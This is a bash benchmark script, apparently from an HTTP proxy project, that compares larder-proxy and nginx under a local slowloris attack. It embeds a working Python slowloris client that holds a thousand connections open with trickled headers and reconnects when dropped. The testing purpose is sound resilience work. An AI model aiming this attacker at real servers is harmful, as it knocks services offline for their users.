#!/usr/bin/env bash
# Normal requests while an attacker holds N slowloris connections open (default 1,000): each
# sends a request line and trickles one header line every few seconds, and reconnects as soon as
# the server closes it, so N stay open the whole time. Measured with wrk, against larder-proxy
# and, in the same run, nginx proxy_cache (client_header_timeout and worker_connections set to
# match the proxy's header-read timeout and connection cap), both in front of the same origin
# (the api example without its layer). Everything listens on free 127.0.0.1 ports.
#
#   scripts/bench-slowloris.sh        # SLOW=1000 SECS=20 CONNS=32 override
set -euo pipefail
cd "$(dirname "$0")/.."

for bin in wrk nginx python3; do
    command -v "$bin" >/dev/null || { echo "$bin is needed (apt-get install wrk nginx-light)" >&2; exit 1; }
done
SLOW="${SLOW:-1000}"
SECS="${SECS:-20}"
CONNS="${CONNS:-32}"
ulimit -n "$(ulimit -Hn)" 2>/dev/null || true
. scripts/lib-http.sh

cargo build --release -q -p larder-http --example api
cargo build --release -q -p larder-proxy
P_ORIGIN=$(free_port); P_PROXY=$(free_port); P_NGINX=$(free_port)
PORT=$P_ORIGIN LARDER_HTTP=off target/release/examples/api >"$DIR/origin.log" 2>&1 & PIDS+=($!)
wait_port "$P_ORIGIN"
target/release/larder-proxy --upstream "http://127.0.0.1:$P_ORIGIN" --listen "127.0.0.1:$P_PROXY" \
    --max-connections 4096 --admin-listen off --access-log off >"$DIR/proxy.log" 2>&1 & PIDS+=($!)
start_nginx "$P_NGINX" "$P_ORIGIN" 4096 "client_header_timeout 10s; keepalive_timeout 60s;"
wait_port "$P_PROXY"; wait_port "$P_NGINX"

# The attacker: N connections, each a request head that never ends, one header line every 5 s.
cat >"$DIR/slowloris.py" <<'EOF'
import selectors, socket, sys, time
port, n, secs = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
sel = selectors.DefaultSelector()
opened = reconnects = 0
def connect():
    global opened
    s = socket.socket(); s.setblocking(False)
    try: s.connect(("127.0.0.1", port))
    except BlockingIOError: pass
    sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE, [time.time(), False])
    opened += 1
for _ in range(n): connect()
end = time.time() + secs
while time.time() < end:
    for key, ev in sel.select(timeout=0.5):
        s, state = key.fileobj, key.data
        try:
            if ev & selectors.EVENT_READ:
                if not s.recv(4096): raise OSError("closed")
            if ev & selectors.EVENT_WRITE and not state[1]:
                s.send(b"GET /users?skip=0&limit=20 HTTP/1.1\r\nHost: a.test\r\n"); state[1] = True
                sel.modify(s, selectors.EVENT_READ, state)
        except OSError:
            sel.unregister(s); s.close(); reconnects += 1; connect()
    now = time.time()
    for key in list(sel.get_map().values()):
        if key.data[1] and now - key.data[0] > 5:
            try: key.fileobj.send(b"X-Slow: 1\r\n"); key.data[0] = now
            except OSError: pass
print(f"slowloris: {n} held open, {reconnects} reconnects after the server closed one", file=sys.stderr)
EOF

# wrk's requests/s, p99, non-2xx and socket errors for URL.
measure() {
    curl -s -o /dev/null "$1"; curl -s -o /dev/null "$1"
    wrk -t1 -c"$CONNS" -d"${SECS}s" --latency "$1" >"$DIR/wrk.txt" 2>&1
    python3 - "$DIR/wrk.txt" <<'EOF'
import re, sys
t = open(sys.argv[1]).read()
rps = re.search(r"Requests/sec:\s+([\d.]+)", t).group(1)
reqs = int(re.search(r"(\d+) requests in", t).group(1))
p99 = re.search(r"99%\s+([\d.]+\w+)", t).group(1)
bad = sum(int(x) for x in re.findall(r"Non-2xx or 3xx responses: (\d+)", t))
m = re.search(r"Socket errors: connect (\d+), read (\d+), write (\d+), timeout (\d+)", t)
errs = sum(int(x) for x in m.groups()) if m else 0
ok = reqs - bad
print(f"{rps:>10} req/s   p99 {p99:>8}   success {100.0 * ok / max(reqs, 1):.3f}% of {reqs}   socket errors {errs}")
EOF
}

for side in "larder-proxy:$P_PROXY" "nginx:$P_NGINX"; do
    name=${side%%:*}; port=${side##*:}
    url="http://127.0.0.1:$port/users?skip=0&limit=20"
    printf '%-13s %-22s ' "$name" "no attack"; measure "$url"
    python3 "$DIR/slowloris.py" "$port" "$SLOW" "$((SECS + 8))" & ATTACK=$!
    sleep 5
    printf '%-13s %-22s ' "$name" "$SLOW slowloris open"; measure "$url"
    wait "$ATTACK" || true
done
